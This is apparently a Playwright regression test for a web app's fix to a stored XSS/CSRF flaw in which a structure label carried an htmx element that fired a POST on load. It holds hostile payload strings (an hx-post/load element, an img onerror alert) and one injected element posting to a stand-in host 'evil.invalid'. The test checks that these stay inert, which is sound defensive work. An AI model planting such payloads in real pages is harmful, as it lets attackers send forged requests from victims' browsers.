"""Issue 9, item 1 in real Chromium: a structure label that holds an element htmx would act on.

A manager of one structure set its label to <b hx-post=… hx-trigger="load">; whoever then typed that
identifier on the attachment page got the label back as HTML, and htmx sent a CSRF-valid request from
their browser. Now the label is text, the regions showing it carry hx-disable, the CSRF token comes
from a <meta> (portal.js adds it to this origin's requests only) and htmx talks to its own origin only.
"""
from factories import make_account
from playwright.sync_api import expect

from webapp.extensions import db
from webapp.models import Structure

from .steps import sign_in

HOSTILE = '<b hx-post="/x" hx-trigger="load">evil</b>"><img src=x onerror=alert(1)>'
IDENTIFIER = "EVIL0001"


def seed(app):
    with app.app_context(), db.connection_context():
        Structure.create(identifier_type="HORS_UE", identifier=IDENTIFIER, country="US", label=HOSTILE,
                         company_name="EVIL INC", address_line="1 MAIN STREET", postcode="10001", city=HOSTILE)
    make_account(app, "victim@example.fr", first_name="Victor", last_name="Martin", locale="fr", secret_answer="medor")


def watch_posts(page):
    """Every POST the page sends, with its headers; /x answers 204 so a request to it is seen, not failed."""
    posts = []
    page.on("request", lambda request: posts.append(request) if request.method == "POST" else None)
    page.route("**/x", lambda route: route.fulfill(status=204))
    return posts


def paths(posts):
    return [post.url.split("/", 3)[3].split("?")[0] for post in posts]


def type_identifier(page):
    page.goto("/structures/rattachement")
    page.select_option("#identifier_type", "HORS_UE")
    expect(page.locator("#identifier")).to_be_visible()
    page.wait_for_function(  # the swapped-in input listens once htmx has processed it
        "() => { const e = document.getElementById('identifier');"
        " return Boolean(e && e['htmx-internal-data'] && e['htmx-internal-data'].initHash); }"
    )
    page.fill("#identifier", IDENTIFIER)


def test_a_hostile_label_is_read_as_text_and_sends_nothing(live_server, js_page, browser_problems):
    seed(live_server.app)
    sign_in(js_page, "victim@example.fr")
    posts = watch_posts(js_page)
    type_identifier(js_page)
    expect(js_page.locator("#identifier-feedback")).to_contain_text(HOSTILE)  # the markup, as characters
    expect(js_page.locator("#attach-result dd").first).to_have_text(HOSTILE)
    js_page.wait_for_timeout(500)  # a load trigger fires at once: give it time anyway
    assert "x" not in paths(posts)
    assert js_page.locator("main b, main img").count() == 0
    # The identifier check carried the token, read from the <meta>; <body> no longer holds it.
    token = js_page.locator('meta[name="csrf-token"]').get_attribute("content")
    checks = [p for p in posts if p.url.endswith("/structures/rattachement/identifiant")]
    assert checks and all(p.headers.get("x-csrftoken") == token for p in checks)
    assert js_page.evaluate("document.body.getAttribute('hx-headers')") is None
    assert browser_problems.errors() == []


def inject(page, selector, markup):
    page.evaluate("([selector, markup]) => { const region = document.querySelector(selector);"
                  " region.insertAdjacentHTML('beforeend', markup); htmx.process(region); }", [selector, markup])


def test_markup_that_came_through_would_stay_inert(live_server, js_page, browser_problems):
    """Should escaping ever fail, htmx leaves elements inside hx-disable alone and sends nothing to
    another origin; the same element elsewhere on the page does fire (so the check can see a request)."""
    # htmx refuses the cross-origin request, and reports it.
    browser_problems.expect("evil.invalid|invalidPath")
    seed(live_server.app)
    sign_in(js_page, "victim@example.fr")
    posts = watch_posts(js_page)
    type_identifier(js_page)
    expect(js_page.locator("#attach-result dd").first).to_have_text(HOSTILE)
    assert js_page.evaluate("htmx.config.selfRequestsOnly") is True
    inject(js_page, "#identifier-check", '<b hx-post="/x" hx-trigger="load">a</b>')
    inject(js_page, "#attach-result", '<b hx-post="/x" hx-trigger="load">b</b>')
    inject(js_page, "main", '<b hx-post="http://evil.invalid/x" hx-trigger="load">c</b>')
    js_page.wait_for_timeout(500)
    assert "x" not in paths(posts) and not [p for p in posts if "evil.invalid" in p.url]
    with js_page.expect_request("**/x"):
        inject(js_page, "main", '<b hx-post="/x" hx-trigger="load">d</b>')  # the control
    assert browser_problems.errors() == []
